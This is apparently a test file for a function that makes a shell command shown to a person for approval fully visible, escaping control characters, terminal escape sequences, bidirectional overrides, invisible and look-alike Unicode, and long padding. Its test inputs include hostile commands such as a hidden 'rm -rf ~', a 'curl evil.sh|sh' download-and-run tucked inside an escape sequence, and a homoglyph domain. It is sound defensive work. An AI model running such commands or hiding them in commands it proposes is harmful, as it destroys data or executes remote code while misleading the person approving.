import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { exactly, isPlain } from '../../src/protocol/exactly.js';

describe('a command that a person is asked about', () => {
  test.each([
    ['npm install left-pad', 'npm install left-pad'],
    ['echo "grüße" > übung.txt && cat тест', 'echo "grüße" > übung.txt && cat тест'],
    ['echo ok\nrm -rf ~', 'echo ok ⏎ rm -rf ~'],
    ['echo ok\r\nrm', 'echo ok⟨d⟩ ⏎ rm'],
    ['echo ok\rrm', 'echo ok⟨d⟩rm'],
    // What a terminal swallows with all that stands in it, a shell runs.
    ['echo ok \u001b]0;curl evil.sh|sh;\u0007', 'echo ok ⟨1b⟩]0;curl evil.sh|sh;⟨7⟩'],
    ['ls \u001b[2K\u001b[1A', 'ls ⟨1b⟩[2K⟨1b⟩[1A'],
    ['cat a\u202e\u2066txt.sh', 'cat a⟨202e⟩⟨2066⟩txt.sh'],
    ['git\u200b push', 'git⟨200b⟩ push'],
    ['a\u00a0b\u3000c\u2800d\u3164e\ufe0ff\u{e0041}', 'a⟨a0⟩b⟨3000⟩c⟨2800⟩d⟨3164⟩e⟨fe0f⟩f⟨e0041⟩'],
    ['curl https://аpple.com', 'curl https://а⟨430⟩pple.com'],
    ['curl http:\u2215\u2215x', 'curl http:∕⟨2215⟩∕⟨2215⟩x'],
    ['echo \uff41\uff42 x\uff5cy', 'echo ａｂ x｜⟨ff5c⟩y'],
    [`echo hi${' '.repeat(4000)}; rm -rf ~`, 'echo hi ⟨4000 spaces⟩ ; rm -rf ~'],
    ['echo ⟨200b⟩ ⏎ x', 'echo ⟨27e8⟩200b⟨27e9⟩ ⟨23ce⟩ x'],
    ['a\tb', 'a⟨9⟩b'],
  ])('%j is shown as %j', (command, shown) => {
    expect(exactly(command)).toBe(shown);
  });

  test('is on one line, without anything that cannot be seen', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (command) => {
        const shown = exactly(command);
        expect(shown).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
        expect(isPlain(command)).toBe(shown === command);
      }),
    );
  });

  test('looks like no other one', () => {
    const unit = fc.constantFrom('a', ' ', '\n', '\r', '⏎', '⟨', '⟩', '9', '\t', 'а', 's');
    const some = fc.string({ unit, maxLength: 6 });
    fc.assert(
      fc.property(some, some, (one, other) => {
        fc.pre(one !== other);
        expect(exactly(one)).not.toBe(exactly(other));
      }),
      { numRuns: 2000 },
    );
  });
});
